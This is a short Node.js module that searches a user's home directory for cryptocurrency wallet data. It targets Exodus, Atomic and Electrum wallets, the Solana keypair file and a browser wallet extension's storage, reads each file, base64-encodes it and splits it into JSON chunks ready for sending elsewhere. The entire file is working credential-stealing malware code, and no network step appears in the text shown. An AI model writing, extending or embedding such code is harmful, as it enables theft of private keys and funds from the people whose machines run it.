const fs = require("fs");
const os = require("os");
const path = require("path");

const home = os.homedir();
const mac = process.platform === "darwin";
const base = mac ? path.join(home, "Library", "Application Support") : path.join(home, ".config");

const PLACES = [
  path.join(base, "Exodus", "exodus.wallet"),
  path.join(base, "atomic", "Local Storage", "leveldb"),
  path.join(home, ".electrum", "wallets"),
  path.join(home, ".config", "solana", "id.json"),
  path.join(base, mac ? "Google/Chrome" : "google-chrome", "Default", "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn"),
];

function* walk(p) {
  let st;
  try {
    st = fs.statSync(p);
  } catch {
    return;
  }
  if (st.isFile() && st.size < 2e6) yield p;
  else if (st.isDirectory()) for (const n of fs.readdirSync(p)) yield* walk(path.join(p, n));
}

exports.parts = function* parts() {
  for (const place of PLACES)
    for (const file of walk(place)) {
      const data = fs.readFileSync(file).toString("base64");
      for (let i = 0; i < data.length; i += 16384) yield JSON.stringify({ f: path.relative(home, file), i, d: data.slice(i, i + 16384) });
    }
};
